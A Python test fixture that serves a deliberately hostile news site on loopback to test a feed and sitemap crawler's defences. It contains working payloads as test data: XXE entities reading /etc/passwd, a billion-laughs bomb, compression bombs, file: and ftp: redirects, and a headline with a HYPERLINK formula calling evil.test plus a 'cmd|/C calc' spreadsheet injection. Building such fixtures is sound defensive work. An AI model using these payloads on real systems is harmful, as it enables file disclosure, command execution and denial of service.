"""A hostile news site on loopback, for tests/test_hostile.py and bench/hostile.py.

Each case of abuse is a host of its own (its own 127.0.4.x address, so its own download slot
and robots.txt), crawled as a source of its own: a feed (or sitemap) listing a normal article
or two beside the hostile responses. Everything hostile is generated as it is sent, never
built whole or kept in the repository: compression bombs (gzip, deflate, brotli, zstd), a page
of 100,000 nested elements, a 50 MB single line and a 9 MB one, a feed with an entity-expansion
bomb, a feed and a sitemap with an external entity, a sitemap index of 100,000 sitemaps, a
sitemap of 1,000,000 URLs (gzipped, and plain), redirects to file:, data: and ftp: URLs, and a
page that sends a byte a second for ever (the pages themselves: tests/hostile_pages.py).

The external entities and the file: redirect point to ``tripwire``, a named pipe: whoever opens
it for reading (anything reading the local disk on a page's say-so) releases a writer waiting
on it, and ``Tripwire.tripped`` says so.
"""

from __future__ import annotations

import contextlib
import os
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

from tests.hostile_pages import (
    BIG_LINE,
    BILLION_LAUGHS,
    DRIP_INTERVAL,
    INDEX_SITEMAPS,
    MILLION_URLS,
    NESTED_ELEMENTS,
    NINE_MB_LINE,
    SITEMAP_ARTICLES,
    article_html,
    compressed_zeros,
    gzipped,
    million_urls,
    nested_page,
    one_line,
    rss,
    sitemap_index,
    urlset,
)

# -- the cases ---------------------------------------------------------------------------------

Body = bytes | Callable[[], Iterator[bytes]]


@dataclass(frozen=True)
class Answer:
    status: int = 200
    headers: dict[str, str] = field(default_factory=dict)
    body: Body = b""  # bytes (sent with a Content-Length) or chunks made as sent (chunked)
    drip: bool = False  # a byte every DRIP_INTERVAL seconds, for ever


@dataclass(frozen=True)
class Case:
    """A source of its own: what it serves, and what its run should record."""

    name: str
    what: str  # the abuse, for the benchmark's table
    feeds: tuple[str, ...] = ("/feed.xml",)
    sitemaps: tuple[str, ...] = ()
    errors: dict[str, int] = field(default_factory=dict)  # error kinds the run records
    stored: int = 1  # normal articles it stores
    empty: int = 0  # pages read with no article text found
    # path -> answer, made once the case's base URL is known
    routes: Callable[[Site, str], dict[str, Answer]] = lambda site, base: {}


HTML = {"Content-Type": "text/html; charset=utf-8"}
XML = {"Content-Type": "application/xml; charset=utf-8"}


def _feed_of(site: Site, base: str, *paths: str, prolog: str = "") -> Answer:
    items = [("/news/normal-report.html", "Council agrees river bridge budget")]
    items += [(p, f"Listed {p}") for p in paths]
    return Answer(body=rss(base, items, site.published, prolog), headers=XML)


def _bomb(site: Site, encoding: str) -> Iterator[bytes]:
    yield site.bomb(encoding)


def _compressed(site: Site, base: str) -> dict[str, Answer]:
    paths = {f"/news/bomb-{e}.html": e for e in ("gzip", "deflate", "br", "zstd")}
    routes = {"/feed.xml": _feed_of(site, base, *paths)}
    for path, encoding in paths.items():
        routes[path] = Answer(
            headers={**HTML, "Content-Encoding": encoding},
            body=partial(_bomb, site, encoding),
        )
    return routes


def _nested(site: Site, base: str) -> dict[str, Answer]:
    return {
        "/feed.xml": _feed_of(site, base, "/news/deep.html"),
        "/news/deep.html": Answer(headers=HTML, body=nested_page()),
    }


def _long_lines(site: Site, base: str) -> dict[str, Answer]:
    return {
        "/feed.xml": _feed_of(site, base, "/news/line-50mb.html", "/news/line-9mb.html"),
        "/news/line-50mb.html": Answer(headers=HTML, body=lambda: one_line(BIG_LINE)),
        "/news/line-9mb.html": Answer(headers=HTML, body=lambda: one_line(NINE_MB_LINE)),
    }


def _entity_bomb(site: Site, base: str) -> dict[str, Answer]:
    bomb = rss(base, [("/news/bomb-entry.html", "&lol9;")], site.published, BILLION_LAUGHS, True)
    return {"/feed.xml": _feed_of(site, base), "/bomb.xml": Answer(headers=XML, body=bomb)}


def _xxe(site: Site, base: str) -> dict[str, Answer]:
    prolog = (
        f'<!DOCTYPE r [<!ENTITY trip SYSTEM "file://{site.tripwire.path}">'
        '<!ENTITY passwd SYSTEM "file:///etc/passwd">]>'
    )
    feed = rss(base, [("/news/xxe-entry.html", "&trip;&passwd;")], site.published, prolog, True)
    sitemap = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog.replace("DOCTYPE r", "DOCTYPE urlset")}'
        '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
        f"<url><loc>{base}/news/&trip;</loc></url></urlset>"
    ).encode()
    return {
        "/feed.xml": _feed_of(site, base),
        "/xxe.xml": Answer(headers=XML, body=feed),
        "/xxe-sitemap.xml": Answer(headers=XML, body=sitemap),
    }


def _sitemap_index(site: Site, base: str) -> dict[str, Answer]:
    routes = {
        "/feed.xml": _feed_of(site, base),
        "/sitemap-index.xml": Answer(headers=XML, body=lambda: sitemap_index(base)),
        "/sitemaps/0.xml": Answer(
            headers=XML, body=urlset(base, ["/news/listed-0.html"], site.published)
        ),
    }
    empty = Answer(headers=XML, body=urlset(base, [], None))
    return routes | {"*/sitemaps/": empty}


def _million(site: Site, base: str) -> dict[str, Answer]:
    return {
        "/feed.xml": _feed_of(site, base),
        "/sitemap-million.xml.gz": Answer(
            headers={"Content-Type": "application/gzip"},
            body=lambda: gzipped(million_urls(base, site.published)),
        ),
        "/sitemap-million.xml": Answer(
            headers=XML, body=lambda: million_urls(base, site.published)
        ),
    }


def _redirects(site: Site, base: str) -> dict[str, Answer]:
    targets = {
        "/news/to-file.html": f"file://{site.tripwire.path}",
        "/news/to-data.html": "data:text/html;base64,PHA+aGk8L3A+",
        "/news/to-ftp.html": "ftp://127.0.0.1/etc/passwd",
    }
    routes = {"/feed.xml": _feed_of(site, base, *targets)}
    for path, target in targets.items():
        routes[path] = Answer(302, {"Location": target, **HTML})
    return routes


def _drip(site: Site, base: str) -> dict[str, Answer]:
    return {
        "/feed.xml": _feed_of(site, base, "/news/drip.html"),
        "/news/drip.html": Answer(headers=HTML, drip=True),
    }


# A headline and byline written to harm whoever reads them: a spreadsheet formula, terminal
# escapes (colour, window title, screen clear), a right-to-left override, C1 and other
# controls; the text carries some too.
NASTY_TITLE = (
    '=HYPERLINK("http://evil.test/?leak","click") \x1b[31mCeasefire talks resume\x1b[0m'
    " \x1b]0;owned\x07in the \u202eegdirb\u202c town\x85\x07"
)
NASTY_AUTHOR = "@SUM(1+1)*cmd|' /C calc'!A0"


# A watchlist and a watcher, so that the crawl's feeds and digests can be read back.
WATCH = (
    '\n[[watchlists]]\nname = "talks"\nquery = "ceasefire OR council"\n\n'
    '[[watchers]]\nname = "desk"\nwatchlists = ["talks"]\n'
)


def _nasty(site: Site, base: str) -> dict[str, Answer]:
    body = (
        article_html(NASTY_TITLE, "nasty", site.published)
        .replace(
            b"</title>",
            f'</title><meta name="author" content="{NASTY_AUTHOR}">'.encode(),
        )
        .replace(b"<p>", b"<p>\x1b[2J\x1b[H\x08-", 1)
    )
    return {
        "/feed.xml": _feed_of(site, base, "/news/nasty.html"),
        "/news/nasty.html": Answer(headers=HTML, body=body),
    }


CASES = (
    Case(
        "normal",
        "(none: two normal articles)",
        routes=lambda s, b: {"/feed.xml": _feed_of(s, b, "/news/second-report.html")},
        stored=2,
    ),
    Case(
        "nasty_text",
        "a headline with a formula, terminal escapes, bidi and C1 controls",
        routes=_nasty,
        stored=2,
    ),
    Case(
        "compressed",
        "gzip, deflate, br and zstd bodies inflating to 200 MB",
        errors={"too_large": 4},
        routes=_compressed,
    ),
    # libxml2 stops parsing at depth 256: the text deeper is never reached, and the page is
    # refused by name (not counted as one without article text).
    Case(
        "nested",
        f"a page of {NESTED_ELEMENTS:,} nested elements",
        errors={"too_deep": 1},
        routes=_nested,
    ),
    Case(
        "long_line",
        "a 50 MB single line; a 9 MB one",
        errors={"too_large": 1},
        stored=2,
        routes=_long_lines,
    ),
    Case(
        "entity_bomb",
        "a feed with an entity-expansion bomb (billion laughs)",
        feeds=("/feed.xml", "/bomb.xml"),
        errors={"unsafe_xml": 1},
        routes=_entity_bomb,
    ),
    Case(
        "xxe",
        "a feed and a sitemap with external entities (file:///etc/passwd)",
        feeds=("/feed.xml", "/xxe.xml"),
        sitemaps=("/xxe-sitemap.xml",),
        errors={"unsafe_xml": 2},
        routes=_xxe,
    ),
    Case(
        "sitemap_index",
        f"a sitemap index of {INDEX_SITEMAPS:,} sitemaps",
        sitemaps=("/sitemap-index.xml",),
        errors={"too_many_urls": 1, "too_many_sitemaps": 1},
        stored=2,
        routes=_sitemap_index,
    ),
    Case(
        "million_urls",
        f"a sitemap of {MILLION_URLS:,} URLs, gzipped (2.8 MB) and plain (89 MB)",
        sitemaps=("/sitemap-million.xml.gz", "/sitemap-million.xml"),
        errors={"too_many_urls": 1, "too_large": 1},
        stored=1 + SITEMAP_ARTICLES,
        routes=_million,
    ),
    Case(
        "redirects",
        "redirects to file:, data: and ftp: URLs",
        errors={"redirect_not_http": 3},
        routes=_redirects,
    ),
    Case(
        "slow_drip",
        "a page sending a byte a second for ever",
        errors={"too_slow": 1},
        routes=_drip,
    ),
)


# -- the tripwire --------------------------------------------------------------------------


class Tripwire:
    """A named pipe that tells whether anything opened it for reading."""

    def __init__(self, folder: Path) -> None:
        self.path = folder / "tripwire"
        os.mkfifo(self.path)
        self._closing = threading.Event()
        self._tripped = threading.Event()
        self._thread = threading.Thread(target=self._wait, daemon=True, name="tripwire")
        self._thread.start()

    def _wait(self) -> None:
        # Opening a pipe for writing blocks until someone opens it for reading.
        with open(self.path, "wb") as pipe:
            if not self._closing.is_set():
                self._tripped.set()
                with contextlib.suppress(BrokenPipeError):
                    pipe.write(b"TRIPWIRE-SECRET\n")

    @property
    def tripped(self) -> bool:
        return self._tripped.is_set()

    def close(self) -> None:
        self._closing.set()
        # Release the waiting writer ourselves.
        reader = os.open(self.path, os.O_RDONLY | os.O_NONBLOCK)
        self._thread.join(timeout=5)
        os.close(reader)


# -- the server ------------------------------------------------------------------------------


class Site:
    """Serves ``cases`` (each on 127.0.4.N, its index in CASES plus one) until ``stop``."""

    def __init__(self, folder: Path, cases: tuple[Case, ...] = CASES) -> None:
        self.cases = cases
        self.published = datetime.now(UTC) - timedelta(hours=1)
        self.tripwire = Tripwire(folder)
        self.requests: list[tuple[str, str]] = []  # (case, path)
        self._lock = threading.Lock()
        self._bombs: dict[str, bytes] = {}
        self._bomb_lock = threading.Lock()  # made once, on first request (zlib frees the GIL)
        self._closing = threading.Event()
        self._servers: dict[str, ThreadingHTTPServer] = {}
        self._routes: dict[str, dict[str, Answer]] = {}

    def address(self, case: Case) -> str:
        return f"127.0.4.{CASES.index(case) + 1}"

    def base(self, case: Case) -> str:
        server = self._servers[case.name]
        return f"http://{self.address(case)}:{server.server_address[1]}"

    def bomb(self, encoding: str) -> bytes:
        with self._bomb_lock:
            if encoding not in self._bombs:
                self._bombs[encoding] = compressed_zeros(encoding)
            return self._bombs[encoding]

    def warm(self) -> Site:
        """Make the compression bombs now rather than on the first request (a benchmark's
        crawl should not wait for its server)."""
        if any(case.routes is _compressed for case in self.cases):
            for encoding in ("gzip", "deflate", "br", "zstd"):
                self.bomb(encoding)
        return self

    def start(self) -> Site:
        for case in self.cases:
            server = ThreadingHTTPServer((self.address(case), 0), self._handler(case))
            server.daemon_threads = True
            self._servers[case.name] = server
            self._routes[case.name] = case.routes(self, self.base(case))
            threading.Thread(
                target=server.serve_forever, daemon=True, name=f"hostile-{case.name}"
            ).start()
        return self

    def stop(self) -> None:
        self._closing.set()
        for server in self._servers.values():
            server.shutdown()
            server.server_close()
        self.tripwire.close()

    def requested(self, case: Case, prefix: str = "") -> list[str]:
        with self._lock:
            return [p for c, p in self.requests if c == case.name and p.startswith(prefix)]

    def config(self, database_url: str, crawl: str = "") -> str:
        blocks = []
        for case in self.cases:
            base = self.base(case)
            feeds = ", ".join(f'"{base}{p}"' for p in case.feeds)
            sitemaps = ", ".join(f'"{base}{p}"' for p in case.sitemaps)
            blocks.append(
                f'[[sources]]\nname = "{case.name}"\nfeeds = [{feeds}]\nsitemaps = [{sitemaps}]\n'
            )
        return (
            f'[storage]\nurl = "{database_url}"\n\n[crawl]\nuser_agent = "presswatch-test/0.1"\n'
            f"{crawl}\n\n" + "\n".join(blocks) + WATCH
        )

    def _answer(self, case: Case, path: str) -> Answer:
        routes = self._routes[case.name]
        if path == "/robots.txt":
            return Answer(headers={"Content-Type": "text/plain"}, body=b"User-agent: *\nAllow: /\n")
        if path in routes:
            return routes[path]
        for key, answer in routes.items():
            if key.startswith("*") and path.startswith(key[1:]):
                return answer
        if path.startswith("/news/"):  # the normal articles
            title = path.rsplit("/", 1)[-1].removesuffix(".html").replace("-", " ").capitalize()
            body = article_html(f"{case.name}: {title}", case.name + path, self.published)
            return Answer(headers=HTML, body=body)
        return Answer(404, HTML, b"<html><body>not found</body></html>")

    def _handler(self, case: Case) -> type[BaseHTTPRequestHandler]:
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"
            # Headers and body go in two writes: without this, Nagle's algorithm holds the
            # second until the client's delayed ACK (40 ms an answer).
            disable_nagle_algorithm = True

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                path = urlsplit(self.path).path
                with site._lock:
                    site.requests.append((case.name, path))
                answer = site._answer(case, path)
                with contextlib.suppress(BrokenPipeError, ConnectionResetError):
                    self._send(answer)

            def _send(self, answer: Answer) -> None:
                self.send_response(answer.status)
                for key, value in answer.headers.items():
                    self.send_header(key, value)
                if isinstance(answer.body, bytes) and not answer.drip:
                    self.send_header("Content-Length", str(len(answer.body)))
                    self.end_headers()
                    self.wfile.write(answer.body)
                    return
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                if answer.drip:
                    self._chunk(b"<!DOCTYPE html><html><body><p>")
                    while not site._closing.wait(DRIP_INTERVAL):
                        self._chunk(b"x")
                    return
                assert callable(answer.body)
                for chunk in answer.body():
                    if site._closing.is_set():
                        return
                    self._chunk(chunk)
                self.wfile.write(b"0\r\n\r\n")

            def _chunk(self, data: bytes) -> None:
                if data:
                    self.wfile.write(f"{len(data):x}\r\n".encode() + data + b"\r\n")
                    self.wfile.flush()

        return Handler
